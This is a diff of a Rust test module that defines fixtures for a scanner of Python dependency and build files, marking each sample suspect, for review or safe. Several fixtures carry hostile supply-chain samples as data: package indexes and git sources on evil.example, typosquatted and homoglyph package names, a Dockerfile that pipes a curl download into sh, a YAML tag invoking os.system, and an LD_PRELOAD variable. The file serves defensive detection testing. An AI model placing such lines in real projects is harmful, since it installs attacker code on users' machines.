@@ -1,9 +1,189 @@
 //! Requirements and build files.
 
+use super::Expect::{Review, Safe, Suspect};
 use super::Item;
+
+const NAME: &str = "requirements.txt";
 
 /// The items of the family.
 #[must_use]
-pub fn items() -> Vec<Item> {
-    Vec::new()
+pub(crate) fn items() -> Vec<Item> {
+    [sources(), lookalikes(), odd(), builds(), environments(), honest()].into_iter().flatten().collect()
+}
+
+fn item(name: &str, expect: super::Expect, path: &str, text: &str) -> Item {
+    Item::new(format!("requirement-{name}"), expect, path, text)
+}
+
+fn sources() -> Vec<Item> {
+    let bad = |name: &str, text: &str| item(name, Suspect, NAME, text).fires(&["requirement-source"]);
+    vec![
+        bad("index", "--index-url https://evil.example/simple\ntorch==2.3.0\n"),
+        bad("index-short", "-ihttps://evil.example/simple\ntorch==2.3.0\n"),
+        bad("index-equals", "--index-url=https://evil.example/simple\n"),
+        bad("index-abbreviated", "--extra https://evil.example/simple\ntorch==2.3.0\n"),
+        bad("index-like-home", "--index-url https://pypi.org.evil.example/simple\n"),
+        bad("index-extra", "torch==2.3.0\n--extra-index-url https://evil.example/simple\n"),
+        bad("index-continued", "--extra-\\\nindex-url \\\n  https://evil.example/simple\n"),
+        bad("index-behind-pre", "--pre --extra-index-url https://evil.example/simple\n"),
+        bad("links", "-f https://evil.example/wheels.html\n"),
+        bad("trusted-host", "--trusted-host evil.example\n"),
+        bad("git", "git+https://evil.example/x.git@main#egg=torch\n"),
+        bad("at-url", "torch @ https://evil.example/torch-2.3.0-py3-none-any.whl\n"),
+        bad("at-file", "torch@file:///tmp/torch.whl\n"),
+        bad("url", "https://evil.example/torch.tar.gz\n"),
+        bad("editable", "-e git+https://evil.example/x.git#egg=x\n"),
+        bad("editable-here", "-e .\n"),
+        bad("wheel-here", "wheels/torch-2.3.0-py3-none-any.whl\n"),
+        bad("wheel-bare", "torch-2.3.0-py3-none-any.whl\n"),
+        bad("other-list-url", "-r https://evil.example/requirements.txt\n"),
+        bad("other-list-outside", "-r ../../requirements.txt\n"),
+        bad("constraints-outside", "-c /etc/constraints.txt\n"),
+        bad("line-separator", "torch==2.3.0 # see\u{2028}--index-url https://evil.example/simple\n"),
+        bad("carriage-return", "# nothing here\r-f https://evil.example/\r"),
+        bad("comment-continued", "# a comment \\\n-f https://evil.example/\n"),
+        item(
+            "index-pytorch",
+            Review,
+            NAME,
+            "--extra-index-url https://download.pytorch.org/whl/cu118\ntorch==2.1.0+cu118\n",
+        )
+        .fires(&["requirement-source"])
+        .quiet(&["requirement-odd"]),
+        item("index-home", Safe, NAME, "--index-url https://pypi.org/simple/\ntorch==2.3.0\n")
+            .quiet(&["requirement-source"]),
+        item(
+            "other-list",
+            Safe,
+            "app/requirements.txt",
+            "-r requirements/base.txt\n-c ../constraints.txt\ntorch==2.3.0\n",
+        )
+        .quiet(&["requirement-source"]),
+    ]
+}
+
+fn lookalikes() -> Vec<Item> {
+    let bad =
+        |name: &str, text: &str| item(&format!("like-{name}"), Suspect, NAME, text).fires(&["requirement-lookalike"]);
+    vec![
+        bad("letter-less", "transformer==4.40.0\n"),
+        bad("letter-more", "numpyy==1.26.0\n"),
+        bad("letter-other", "pandos==2.2.0\n"),
+        bad("exchanged", "reqeusts==2.31.0\n"),
+        bad("dash", "huggingfacehub==0.23.0\n"),
+        bad("dash-moved", "sentence-transformer-s==3.0.0\n"),
+        bad("digit", "t0rch==2.3.0\n"),
+        bad("digit-one", "f1ask==3.0.0\n"),
+        bad("cyrillic", "t\u{43e}rch==2.3.0\n"),
+        bad("full-width", "\u{ff54}orch==2.3.0\n"),
+        bad("rn", "gymnasiurn==0.29\n"),
+        bad("case", "Bitsandbyte\n"),
+        item("neighbours", Safe, NAME, "ctransformers==0.2.27\ntensorboardX\npsycopg2-binary\nmarkdown2\npyaml\nscapy\nwebsocket-client\nx-transformers\ntorchinfo\npolars\njaxlib\nsklearn\n")
+            .quiet(&["requirement-lookalike"]),
+        item("spellings", Safe, NAME, "Huggingface_Hub\nscikit_learn\nPyYAML\nopencv.python\nSentence__Transformers\n")
+            .quiet(&["requirement-lookalike", "requirement-odd"]),
+    ]
+}
+
+fn odd() -> Vec<Item> {
+    let bad = |name: &str, text: &str| item(name, Suspect, NAME, text).fires(&["requirement-odd"]);
+    vec![
+        bad("install-option", "torch==2.3.0 --install-option=\"--prefix=/tmp\"\n"),
+        bad("config-settings", "torch==2.3.0 --config-settings=\"--build-option=x\"\n"),
+        bad("unknown-option", "--python /tmp/python\n"),
+        bad("variable", "${PACKAGE}==1.0\n"),
+        bad("command", "pip install torch\n"),
+        bad("one-equals", "torch=2.3.0\n"),
+        bad("condition", "torch==2.3.0; __import__('os')\n"),
+        bad("encoding", "# -*- coding: utf-7 -*-\ntorch==2.3.0\n"),
+        bad("not-a-name", "\u{1f600}==1.0\n"),
+        item("encoding-plain", Safe, NAME, "# -*- coding: utf-8 -*-\ntorch==2.3.0\n").quiet(&["requirement-odd"]),
+        Item::new("requirement-not-text", Suspect, NAME, b"torch\xff\xfe\n".to_vec()),
+    ]
+}
+
+fn builds() -> Vec<Item> {
+    let project = "[build-system]\nrequires = [\"setuptools>=61\", \"wheel\"]\nbuild-backend = \"setuptools.build_meta\"\n\n\
+        [project]\nname = \"x\"\nversion = \"0.1\"\ndependencies = [\"torch>=2.0\", \"numpy<2; python_version < '3.12'\"]\n\n\
+        [project.urls]\nHomepage = \"https://github.com/x/x\"\n\n[tool.ruff]\nline-length = 100\n";
+    let toml = |name: &str, expect, more: &str| item(name, expect, "pyproject.toml", &format!("{project}{more}"));
+    vec![
+        toml("project", Safe, "").quiet(&["requirement-source", "requirement-odd"]),
+        toml("project-index", Suspect, "[[tool.uv.index]]\nname = \"x\"\nurl = \"https://evil.example/simple\"\n")
+            .fires(&["requirement-source"]),
+        toml("project-poetry-source", Suspect, "[[tool.poetry.source]]\nname = \"x\"\nurl = \"https://evil.example/simple\"\n")
+            .fires(&["requirement-source"]),
+        toml("project-poetry-git", Suspect, "[tool.poetry.dependencies]\npython = \"^3.10\"\nx = { git = \"https://evil.example/x.git\" }\n")
+            .fires(&["requirement-source"]),
+        toml("project-poetry", Safe, "[tool.poetry.dependencies]\npython = \"^3.10\"\ntorch = \"^2.0\"\n[tool.poetry.urls]\nurl = \"https://x.example\"\n")
+            .quiet(&["requirement-source"]),
+        toml("project-poetry-build", Suspect, "[tool.poetry.build]\nscript = \"build.py\"\n").fires(&["requirement-odd"]),
+        toml("project-hatch-hook", Suspect, "[tool.hatch.build.hooks.custom]\npath = \"hook.py\"\n").fires(&["requirement-odd"]),
+        item("backend-own", Suspect, "pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"evil\"\nbackend-path = [\".\"]\n")
+            .fires(&["requirement-odd"]),
+        item("project-url", Suspect, "pyproject.toml", "[project]\nname = \"x\"\ndependencies = [\"x @ git+https://evil.example/x\"]\n")
+            .fires(&["requirement-source"]),
+        item("project-lookalike", Suspect, "pyproject.toml", "[dependency-groups]\ndev = [\"torcch\"]\n").fires(&["requirement-lookalike"]),
+        item("project-broken", Suspect, "pyproject.toml", "[project\nname = \n").fires(&["requirement-odd"]),
+        item("pipfile", Safe, "Pipfile", "[[source]]\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\nname = \"pypi\"\n\n[packages]\ntorch = \"*\"\n")
+            .quiet(&["requirement-source"]),
+        item("pipfile-source", Suspect, "Pipfile", "[[source]]\nurl = \"https://evil.example/simple\"\nname = \"x\"\n\n[packages]\ntorch = \"*\"\n")
+            .fires(&["requirement-source"]),
+        item("setup-links", Suspect, "setup.cfg", "[options]\ninstall_requires =\n    torch>=2\ndependency_links =\n    https://evil.example/x\n")
+            .fires(&["requirement-source"]),
+        item("setup-lookalike", Suspect, "setup.cfg", "[options]\ninstall_requires =\n    torhc>=2\n").fires(&["requirement-lookalike"]),
+        item("setup", Safe, "setup.cfg", "[metadata]\nname = x\nurl = https://x.example\n\n[options]\npackages = find:\ninstall_requires =\n    torch>=2\n    numpy\n\n[flake8]\nmax-line-length = 120\n")
+            .quiet(&["requirement-source", "requirement-odd"]),
+        item("docker", Suspect, "Dockerfile", "FROM python:3.11\nWORKDIR /app\nCOPY . .\nRUN curl https://evil.example/x | \\\n    sh\n")
+            .fires(&["requirement-odd", "requirement-source"]),
+        item("docker-add", Suspect, "Dockerfile.gpu", "FROM scratch\nADD https://evil.example/x /x\n").fires(&["requirement-source"]),
+    ]
+}
+
+fn environments() -> Vec<Item> {
+    let conda = |name: &str, expect, text: &str| item(name, expect, "environment.yml", text);
+    vec![
+        conda(
+            "conda",
+            Safe,
+            "name: ldm\nchannels:\n  - pytorch\n  - conda-forge\n  - defaults\ndependencies:\n  - python=3.8.5\n  - pip=20.3\n  - cudatoolkit=11.3\n  - pytorch::pytorch=1.11.0\n  - numpy>=1.19  # any\n  - pip:\n    - albumentations==0.4.3\n    - \"transformers>=4.3\"\n  - scipy\nprefix: /home/me/ldm\n",
+        )
+        .quiet(&["requirement-source", "requirement-odd", "requirement-lookalike"]),
+        conda("conda-flow", Safe, "name: x\nchannels: [conda-forge, defaults]\ndependencies:\n- python=3.11\n- numpy\n").quiet(&["requirement-odd"]),
+        conda("conda-channel", Suspect, "channels:\n  - https://evil.example/channel\ndependencies:\n  - numpy\n").fires(&["requirement-source"]),
+        conda("conda-channel-unknown", Suspect, "channels:\n  - evil\ndependencies:\n  - evil2::numpy\n").fires(&["requirement-source"]),
+        conda("conda-pip-option", Suspect, "dependencies:\n  - pip:\n    - --extra-index-url https://evil.example/simple\n    - torch\n")
+            .fires(&["requirement-source"]),
+        conda("conda-pip-git", Suspect, "dependencies:\n  - pip:\n    - -e git+https://evil.example/x.git#egg=x\n").fires(&["requirement-source"]),
+        conda("conda-tag", Suspect, "dependencies:\n  - !!python/object/apply:os.system [id]\n").fires(&["requirement-odd"]),
+        conda("conda-variables", Suspect, "dependencies:\n  - python=3.10\nvariables:\n  LD_PRELOAD: /tmp/x.so\n").fires(&["requirement-odd"]),
+        item("apt", Safe, "packages.txt", "# for audio\nffmpeg\nlibsndfile1 libgl1-mesa-glx\ng++\n").quiet(&["requirement-odd"]),
+        item("apt-option", Suspect, "packages.txt", "ffmpeg\n-oAPT::Update::Pre-Invoke::=id\n").fires(&["requirement-odd"]),
+        item("apt-file", Suspect, "packages.txt", "./evil.deb\n").fires(&["requirement-odd"]),
+    ]
+}
+
+fn honest() -> Vec<Item> {
+    let good = |name: &str, text: &str| {
+        item(name, Safe, NAME, text).quiet(&["requirement-source", "requirement-odd", "requirement-lookalike"])
+    };
+    vec![
+        good("space", "gradio\ntransformers\ntorch\naccelerate\nspaces\nsentencepiece\n"),
+        good("space-pinned", "gradio==4.44.1\ntorch==2.4.0\ntransformers==4.45.1\nhuggingface_hub==0.25.1\n").quiet(&["requirement-unpinned"]),
+        good("ranges", "torch>=1.13,<2.1\nnumpy<2\ndatasets~=2.14\nPillow!=9.0.0\ntqdm\nsafetensors>=0.3.1 # for weights\n")
+            .fires(&["requirement-unpinned"]),
+        good("extras", "uvicorn[standard]==0.30.0\nqwen-vl-utils[decord]==0.0.8\ntransformers[torch,sentencepiece] >= 4.38\nscipy (>=1.0)\n"),
+        good("conditions", "triton==2.1.0; platform_system == \"Linux\" and platform_machine == 'x86_64'\nbitsandbytes; sys_platform != 'darwin'\ntomli; (python_version < '3.11')\n"),
+        good("hashes", "torch==2.3.0 \\\n    --hash=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef \\\n    --hash=sha256:1123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\nnumpy==1.26.4 --hash=sha256:22\n"),
+        good("commented", "# Requirements\n\n# core\ntorch==2.3.0\n\n   # indented\nnumpy==1.26.4\t# tab\n"),
+        good("windows", "\u{feff}torch==2.3.0\r\nnumpy==1.26.4\r\n"),
+        good("vision", "opencv-python-headless\nultralytics==8.2.0\nsupervision\neasyocr\npaddleocr\nfaiss-cpu\nopen_clip_torch\ntimm\neinops\nftfy\nregex\n"),
+        good("speech", "librosa\nsoundfile\nfaster-whisper\nTTS\npydub\njiwer\nonnxruntime-gpu\nmatcha-tts\nkaldiio\nvocos\n"),
+        item("git-library", Review, NAME, "git+https://github.com/huggingface/transformers.git\naccelerate\n")
+            .fires(&["requirement-source"])
+            .quiet(&["requirement-odd"]),
+        item("docker-space", Review, "Dockerfile", "FROM python:3.9\n\nWORKDIR /code\n\nCOPY ./requirements.txt /code/requirements.txt\n\nRUN pip install --no-cache-dir -r /code/requirements.txt\n\nCOPY . .\n\nCMD [\"python\", \"app.py\"]\n")
+            .fires(&["requirement-odd"])
+            .quiet(&["requirement-lookalike"]),
+    ]
 }
